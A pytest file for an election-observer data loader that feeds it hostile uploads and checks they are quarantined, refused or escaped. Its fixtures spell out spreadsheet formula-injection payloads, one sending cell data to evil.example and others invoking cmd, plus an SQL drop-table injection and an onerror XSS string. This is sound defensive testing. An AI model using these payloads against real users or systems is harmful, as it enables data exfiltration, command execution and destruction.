"""Hostile observers' files (issue 9, point 4): formulas, wrong encodings, a million rows, empty files and
sheets, SQL and HTML where names go. Each goes through ``saylau.observers.load_observers`` (what
``saylau load-observers`` and the flow call): none crashes the run, none is evaluated, each ends as a
refusal naming the file or as quarantined rows naming the rule, and nothing is written outside the build
folder.
"""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from openpyxl.worksheet.formula import ArrayFormula

from saylau import marts, observers, publish, runs, warehouse
from saylau.query import run_query
from saylau.report import build_report
from tests.test_observers import ELECTION, RU, copy, load, query, write_csv

FORMULAS = {  # column -> what an attacker (or a careless export) puts there
    "valid": '=HYPERLINK("http://evil.example/steal?d="&A2,"890")',
    "notes": '=HYPERLINK("http://evil.example","копия")',
    "photo_ref": "=1+1",
    "region": "=1+1",
    "precinct": "=5",
    "contest": '=CONCAT("Мажи","лис")',
    "amanat": "@SUM(A1:A9)",
    "ak_zhol": "+cmd|' /C calc'!A0",
    "qhp": "-2+3+cmd|' /C calc'!A0",
    "organisation": '=IMPORTXML("http://evil.example","//a")',
}


def protocol_rows() -> list[dict]:
    """Precinct 1 and 2 clean; then one row per formula, each in its own column of a copy otherwise fine."""
    rows = [
        copy(1, organisation="Наблюдатели", notes="- копию выдали в 22:40 (без формул)"),
        copy(2, organisation="Наблюдатели", notes="-"),
    ]
    for n, (column, formula) in enumerate(FORMULAS.items(), start=3):
        rows.append({**copy(n, organisation="Наблюдатели"), column: formula})
    return rows


HEADERS = {**RU, "organisation": "Организация"}


def snapshot(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def test_formulas_are_quarantined_as_written_never_evaluated(wh, build_settings, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = write_csv(tmp_path / "formulas.csv", protocol_rows(), headers=HEADERS)
    before = snapshot(tmp_path)
    [result] = load(wh, build_settings, path)
    assert result.status == "loaded" and result.rows == 2 + len(FORMULAS)
    assert (result.good, result.rejected) == (2, len(FORMULAS))

    quarantined = query(
        wh,
        "select source_row, rule, failing_values, reason from quarantine.observer_protocols order by 1",
    )
    expected_rows = {n: column for n, column in enumerate(FORMULAS, start=4)}  # spreadsheet rows, header = 1
    assert [int(r[0]) for r in quarantined] == list(expected_rows)
    for row, rule, values, reason in quarantined:
        column = expected_rows[int(row)]
        assert rule == "formula_cell" and "never evaluated" in reason
        assert values == f"{column}={FORMULAS[column]}"  # the text as written, not a computed value
        header = HEADERS[column]
        assert f"formulas.csv row {row}: formula_cell: {column} ({header!r})={FORMULAS[column]}" in (
            result.problems
        )

    # nothing of a formula row reached core; no "=1+1" became 2, no "=5" became precinct 5
    core = query(wh, "select distinct unit_id from core.observer_protocol_copies order by 1")
    assert core == [("KZ-75/1",), ("KZ-75/2",)]
    text = json.dumps(query(wh, "select * from core.observer_protocol_copies"), default=str)
    assert not re.search(r"HYPERLINK|cmd\||@SUM|IMPORTXML|=1\+1", text)
    counts = dict(
        query(wh, "select rule, failed_rows from meta.data_quality where table_name = 'observer_protocols'")
    )
    assert counts["formula_cell"] == len(FORMULAS)
    # a dash that starts a note, a negative number and a phone number are not formulas
    assert not observers.is_formula("- копию выдали") and not observers.is_formula("-3")
    assert not observers.is_formula("+7 701 555 12 34") and not observers.is_formula("-")
    # what was written: the archived bytes and the warehouse, inside the build folder
    new = snapshot(tmp_path) - before
    assert new and all(p.is_relative_to(build_settings.build_dir) for p in new), sorted(new)


def test_formulas_in_turnout_and_violation_reports_are_quarantined(wh, build_settings, tmp_path):
    turnout = tmp_path / "t.csv"
    turnout.write_text(
        "Регион;№ участка;Время;Проголосовало\n"
        "г. Алматы;1;10:00;50\n"
        "г. Алматы;2;=NOW();60\n"
        "г. Алматы;3;12:00;=A2*100\n",
        encoding="utf-8",
    )
    violations = tmp_path / "v.csv"
    violations.write_text(
        "Регион;№ участка;Время;Вид нарушения;Описание\n"
        "г. Алматы;1;15:20;copy_refused;председатель отказался выдать копию\n"
        'г. Алматы;2;15:30;copy_refused;=HYPERLINK("http://evil.example","фото")\n'
        "г. Алматы;3;15:40;@cmd;вброс\n",
        encoding="utf-8",
    )
    t, v = load(wh, build_settings, turnout, violations)
    assert (t.kind, t.good, t.rejected) == ("turnout", 1, 2)
    assert (v.kind, v.good, v.rejected) == ("violation", 1, 2)
    assert query(wh, "select source_row, failing_values from quarantine.observer_turnout order by 1") == [
        (3, "time==NOW()"),
        (4, "voters_counted==A2*100"),
    ]
    assert query(wh, "select source_row, rule from quarantine.observer_violations order by 1") == [
        (3, "formula_cell"),
        (4, "formula_cell"),
    ]
    assert query(wh, "select count(*) from core.observer_violations") == [(1,)]


def _xlsx(path: Path, rows: list[list[object]]) -> Path:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


XLSX_HEADER = ["Регион", "№ участка", "Бюллетень", "Число избирателей в списке", "Выдано бюллетеней",
               "Бюллетеней в ящиках", "Недействительные бюллетени", "Действительные бюллетени", "Nur Otan",
               "Ак жол", "Фото протокола", "Примечание"]  # fmt: skip


def xlsx_row(n: int, **cells) -> list[object]:
    row = dict(
        zip(
            XLSX_HEADER,
            ["г. Алматы", n, "Мажилис", 1500, 900, 900, 10, 890, 800, 90, f"{n}.jpg", "ок"],
            strict=True,
        )
    )
    row.update({XLSX_HEADER[int(k[1:])]: v for k, v in cells.items()})
    return list(row.values())


def with_cached_value(path: Path, formula: str, cached: str) -> Path:
    """The workbook with a value cached for a formula, as a spreadsheet program would have saved it."""
    src = zipfile.ZipFile(path)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename.startswith("xl/worksheets/"):
                text = data.decode()
                assert f"<f>{formula}</f><v></v>" in text or f"<f>{formula}</f><v />" in text
                text = text.replace(f"<f>{formula}</f><v></v>", f"<f>{formula}</f><v>{cached}</v>")
                data = text.replace(f"<f>{formula}</f><v />", f"<f>{formula}</f><v>{cached}</v>").encode()
            dst.writestr(item, data)
    path.write_bytes(out.getvalue())
    return path


def test_xlsx_formulas_are_read_as_formulas_cached_value_or_not(wh, build_settings, tmp_path):
    plain = _xlsx(
        tmp_path / "plain.xlsx",
        [
            XLSX_HEADER,
            xlsx_row(1),
            xlsx_row(2, c7="=880+10"),  # valid: no cached value at all (openpyxl writes none)
            xlsx_row(3, c10='=HYPERLINK("http://evil.example","3.jpg")'),
        ],
    )
    book = openpyxl.load_workbook(plain)
    book.active["I5"] = ArrayFormula("I5", "=SUM(800)")  # an array formula, a row of its own
    for n, cell in enumerate(xlsx_row(4)):
        if n != 8:
            book.active.cell(5, n + 1, cell)
    text_cell = book.active.cell(6, 12, "=2+2")
    text_cell.data_type = "s"  # typed as text, still formula text for the next spreadsheet that opens it
    for n, cell in enumerate(xlsx_row(5)[:11]):
        book.active.cell(6, n + 1, cell)
    book.save(plain)
    cached = with_cached_value(
        _xlsx(tmp_path / "cached.xlsx", [XLSX_HEADER, xlsx_row(6, c7="=0+890")]), "0+890", "890"
    )

    p, c = load(wh, build_settings, plain, cached)
    assert (p.status, p.good, p.rejected) == ("loaded", 1, 4)
    assert (c.status, c.good, c.rejected) == ("loaded", 0, 1)  # a plausible cached 890 is not trusted
    assert query(
        wh,
        "select source_ref, source_row, rule, failing_values from quarantine.observer_protocols order by 1, 2",
    ) == [
        (str(cached), 2, "formula_cell", "valid==0+890"),
        (str(plain), 3, "formula_cell", "valid==880+10"),
        (str(plain), 4, "formula_cell", 'photo_ref==HYPERLINK("http://evil.example","3.jpg")'),
        (str(plain), 5, "formula_cell", "amanat==SUM(800)"),
        (str(plain), 6, "formula_cell", "notes==2+2"),
    ]
    assert query(wh, "select distinct unit_id from core.observer_protocol_copies") == [("KZ-75/1",)]


# --- encodings ------------------------------------------------------------------------------------------

NOTE = "Копию выдали; ҚР «Әділ» — ёлка №5"


def export_text(delimiter: str = ";") -> str:
    buf = io.StringIO()
    write = pd.DataFrame([copy(1, notes=NOTE)]).rename(columns=RU)
    write.to_csv(buf, sep=delimiter, index=False)
    return buf.getvalue()


ENCODED = {
    "utf8.csv": lambda: export_text().encode("utf-8"),
    "utf8_bom.csv": lambda: export_text().encode("utf-8-sig"),
    "cp1251.csv": lambda: export_text().replace("Ә", "А").replace("Қ", "К").encode("cp1251"),
    "excel_unicode.txt.csv": lambda: export_text("\t").encode("utf-16"),  # Excel's "Unicode text": LE + BOM
    "utf16_be.csv": lambda: b"\xfe\xff" + export_text().encode("utf-16-be"),
    "utf32.csv": lambda: export_text().encode("utf-32"),
}


def test_exports_in_any_unicode_or_windows_encoding_read_the_same(wh, build_settings, tmp_path):
    paths = []
    for name, make in ENCODED.items():
        paths.append(tmp_path / name)
        paths[-1].write_bytes(make())
    results = load(wh, build_settings, *paths)
    assert [(r.status, r.kind, r.good, r.rejected) for r in results] == [("loaded", "protocol", 1, 0)] * len(
        paths
    )
    staged = query(
        wh,
        "select source_ref, unit_id, registered, votes, notes from staging.observer_protocols order by 1",
    )
    by_file = {Path(ref).name: rest for ref, *rest in staged}
    for name in ENCODED:
        unit, registered, votes, note = by_file[name]
        assert (unit, registered, json.loads(votes)["amanat"]) == ("KZ-75/1", 1500, 500)
        expected = NOTE.replace("Ә", "А").replace("Қ", "К") if name == "cp1251.csv" else NOTE
        assert note == expected


UNREADABLE = {
    "utf16_no_bom.csv": (lambda: export_text().encode("utf-16-le"), "NUL"),
    "bom_then_garbage.csv": (lambda: b"\xef\xbb\xbf" + bytes(range(128, 256)), "utf-8-sig"),
    "binary.csv": (lambda: bytes(range(256)) * 64, "Windows-1251"),
    "report.pdf.csv": (lambda: b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\x00\x01stream", "NUL"),
    "gzip.csv": (lambda: __import__("gzip").compress(export_text().encode()), ""),
    "not_a_workbook.xlsx": (lambda: export_text().encode(), "not a readable XLSX"),
    "zip_not_workbook.xlsx": (lambda: _zip_of({"notes.txt": b"hello"}), "not a readable XLSX"),
    "truncated.xlsx": (lambda: _workbook_bytes()[:700], "not a readable XLSX"),
    "huge_field.csv": (lambda: ('Регион;Примечание\nг. Алматы;"' + "x" * 200_000 + '"\n').encode(), "CSV"),
}


def _zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def _workbook_bytes() -> bytes:
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(XLSX_HEADER)
    book.active.append(xlsx_row(1))
    book.save(out)
    return out.getvalue()


def test_unreadable_files_are_refused_naming_the_file_and_the_rest_still_load(wh, build_settings, tmp_path):
    paths = []
    for name, (make, _) in UNREADABLE.items():
        paths.append(tmp_path / name)
        paths[-1].write_bytes(make())
    good = tmp_path / "zz_good.csv"
    good.write_bytes(export_text().encode())
    results = load(wh, build_settings, *paths, good)
    for result, (name, (_, why)) in zip(results, UNREADABLE.items(), strict=False):
        assert result.status == "refused", (name, result.summary(), result.problems)
        assert len(result.problems) == 1 and re.match(rf"{re.escape(name)}( row \d+)?: ", result.problems[0])
        assert why in result.problems[0], (name, result.problems)
    assert (results[-1].status, results[-1].good) == ("loaded", 1)


# --- empty --------------------------------------------------------------------------------------------------


def _empty_workbook(path: Path, second_sheet: bool = False) -> Path:
    book = openpyxl.Workbook()
    if second_sheet:  # the data on a second sheet: the first, which is read, is empty
        book.create_sheet("data").append(XLSX_HEADER)
    book.save(path)
    return path


def test_empty_files_and_sheets_are_refused_naming_the_file(wh, build_settings, tmp_path):
    files = {
        "empty.csv": b"",
        "blank_lines.csv": b"\r\n\n   \n;;;\n",
        "bom_only.csv": b"\xef\xbb\xbf",
    }
    for name, body in files.items():
        (tmp_path / name).write_bytes(body)
    books = [_empty_workbook(tmp_path / "empty.xlsx"), _empty_workbook(tmp_path / "second.xlsx", True)]
    blank_first = _xlsx(tmp_path / "blank_first_row.xlsx", [[None, None], XLSX_HEADER, xlsx_row(1)])
    results = load(wh, build_settings, *[tmp_path / n for n in files], *books, blank_first)
    for result in results:
        name = Path(result.path).name
        assert result.status == "refused" and result.problems[0].startswith(f"{name}: "), result.problems
        assert "empty" in result.problems[0] or "no headers" in result.problems[0]
    # a header and nothing under it is a file of no rows, said so
    header_only = tmp_path / "header_only.xlsx"
    _xlsx(header_only, [XLSX_HEADER])
    [result] = load(wh, build_settings, header_only, run_id="run-2")
    assert result.summary() == f"{header_only}: protocol, 0 rows: 0 good, 0 quarantined, 0 flagged"


# --- size -----------------------------------------------------------------------------------------------


def turnout_frame(n: int) -> pd.DataFrame:
    """n head counts at Almaty's 30 precincts, a minute apart; every 1000th mistyped, every 1000th a formula."""
    i = np.arange(n)
    counted = (i // 30).astype(str).astype(object)
    counted[i % 1000 == 7] = "12o0"
    counted[i % 1000 == 8] = '=HYPERLINK("http://evil.example","1")'
    minute = i // 30
    hours = np.char.zfill((8 + (minute // 60) % 14).astype(str), 2)
    minutes = np.char.zfill((minute % 60).astype(str), 2)
    return pd.DataFrame(
        {
            "Регион": "г. Алматы",
            "№ участка": i % 30 + 1,
            "Время": np.char.add(np.char.add(hours, ":"), minutes),
            "Проголосовало": counted,
        }
    )


def test_rows_up_to_the_cap_load_with_bad_rows_quarantined_and_one_more_is_refused(
    wh, build_settings, tmp_path, monkeypatch
):
    monkeypatch.setattr(observers.cells, "MAX_ROWS", 2_000)
    at_cap, over = tmp_path / "at_cap.csv", tmp_path / "over.csv"
    turnout_frame(2_000).to_csv(at_cap, sep=";", index=False)
    turnout_frame(2_001).to_csv(over, sep=";", index=False)
    over_xlsx = tmp_path / "over.xlsx"
    frame = turnout_frame(2_001)
    _xlsx(over_xlsx, [list(frame.columns), *frame.astype(str).to_numpy().tolist()])
    ok, refused, refused_xlsx = load(wh, build_settings, at_cap, over, over_xlsx)
    assert refused_xlsx.status == "refused" and refused_xlsx.problems[0].startswith(
        "over.xlsx: more than 2,000"
    )
    assert (ok.status, ok.rows, ok.rejected) == ("loaded", 2_000, 4)  # rows 9, 10, 1009, 1010
    rules = query(wh, "select rule, count(*) from quarantine.observer_turnout group by 1 order by 1")
    assert rules == [("formula_cell", 2), ("wrong_type", 2)]
    assert refused.status == "refused" and refused.problems == [
        "over.csv: more than 2,000 rows; no observers' export is that long (one row per protocol copy, count "
        "or report): split the file, or check what it is"
    ]


@pytest.mark.slow
def test_a_million_row_file_is_refused_quickly_in_bounded_memory(wh, build_settings, tmp_path):
    big = tmp_path / "million.csv"
    turnout_frame(1_000_000).to_csv(big, sep=";", index=False)
    small = tmp_path / "small.csv"
    turnout_frame(20).to_csv(small, sep=";", index=False)
    # in a process of its own, so its peak memory is the load's alone
    script = (
        "import json, sys\n"
        "from pathlib import Path\n"
        "from saylau.config import Settings\n"
        "from saylau.observers import load_observers\n"
        "s = Settings(build_dir=Path(sys.argv[1]))\n"
        "rs = load_observers(s.work_db, [Path(p) for p in sys.argv[2:]], election_id='kz-2021-01-10', "
        "run_id='big', s=s)\n"
        # VmHWM, not ru_maxrss: Linux copies ru_maxrss from the parent at fork, so a pytest worker grown
        # by earlier tests would be measured instead of this process
        "hwm = [l for l in open('/proc/self/status') if l.startswith('VmHWM:')][0].split()[1]\n"
        "print(json.dumps({'results': [[r.status, r.rows, r.rejected, r.problems] for r in rs], "
        "'rss_mb': int(hwm) / 1024}))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(build_settings.build_dir), str(big), str(small)],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=Path(__file__).parent.parent,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parent.parent)},
    )
    assert done.returncode == 0, done.stderr[-3000:]
    out = json.loads(done.stdout.strip().splitlines()[-1])
    (status, _, _, problems), small_result = out["results"]
    assert status == "refused" and problems[0].startswith("million.csv: more than 250,000 rows")
    assert small_result[:3] == ["loaded", 20, 2]  # rows 9 and 10 quarantined
    assert out["rss_mb"] < 1_000, out["rss_mb"]  # the file is 25 MB; nothing near a copy per row per column


def test_a_file_over_the_byte_cap_is_refused_unread(wh, build_settings, tmp_path, monkeypatch):
    monkeypatch.setattr(observers.load, "MAX_FILE_BYTES", 1_000)
    big = tmp_path / "big.csv"
    turnout_frame(100).to_csv(big, sep=";", index=False)
    [result] = load(wh, build_settings, big)
    assert result.status == "refused" and result.problems[0].startswith(
        f"big.csv: {big.stat().st_size:,} bytes"
    )
    assert not any(build_settings.archive_dir.rglob("*.gz"))  # not even archived


# --- SQL and HTML where names and text go ---------------------------------------------------------------

SQL = "'; drop table core.observer_protocol_copies; --"
HTML = "<img src=x onerror=alert(1)>"


def test_sql_and_html_in_headers_cells_and_file_names_are_data(wh, build_settings, tmp_path):
    bad_header = tmp_path / "header.csv"
    bad_header.write_text(f'Регион;№ участка;"{SQL}"\nг. Алматы;1;5\n', encoding="utf-8")
    named = tmp_path / f"{HTML}{SQL}.csv"
    write_csv(named, [copy(1, notes=SQL + HTML), copy(2, region=SQL)])
    refused, loaded = load(wh, build_settings, bad_header, named)
    assert refused.status == "refused" and refused.problems[0].startswith("header.csv: cannot map column(s)")
    assert SQL in refused.problems[0]
    assert (loaded.status, loaded.good, loaded.rejected) == ("loaded", 1, 1)
    assert query(wh, "select notes from staging.observer_protocols where precinct = '1'") == [(SQL + HTML,)]
    assert query(wh, "select rule, failing_values from quarantine.observer_protocols") == [
        ("unknown_region", f"region={SQL}")
    ]
    assert (str(named),) in query(wh, "select path from raw.files")
    assert query(wh, "select count(*) from core.observer_protocol_copies")[0][0] > 0  # the table is there


def test_observer_strings_in_the_report_are_escaped(build_settings, ref_warehouse, tmp_path):
    s = build_settings
    named = tmp_path / f"{HTML}.csv"
    write_csv(named, [copy(1, notes=HTML), copy(2)])
    run_id = runs.start_run(s.work_db, "load_observers", {"paths": [str(named)]})
    [result] = observers.load_observers(s.work_db, [named], election_id=ELECTION, run_id=run_id, s=s)
    runs.finish_run(s.work_db, run_id, "completed")
    assert result.status == "loaded"
    with warehouse.connect(s.work_db) as con:
        marts.build_marts(con)
    publish.publish(s.work_db, s.published_db, s.parquet_dir)
    page = build_report(s.published_db, ELECTION, s.report_dir).path.read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in page  # the file name, shown as text
    assert HTML not in page


def test_query_csv_neutralises_formulas(build_settings, ref_warehouse, tmp_path):
    s = build_settings
    path = write_csv(tmp_path / "f.csv", [copy(1, notes='=HYPERLINK("http://evil.example","x")')])
    observers.load_observers(s.work_db, [path], election_id=ELECTION, run_id="r", s=s)
    publish.publish(s.work_db, s.published_db, s.parquet_dir)
    answer = run_query(s.published_db, "select notes from quarantine.observer_protocols").to_csv()
    cells = [c for line in answer.splitlines()[1:] for c in line.split(",")]
    assert cells and not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells)
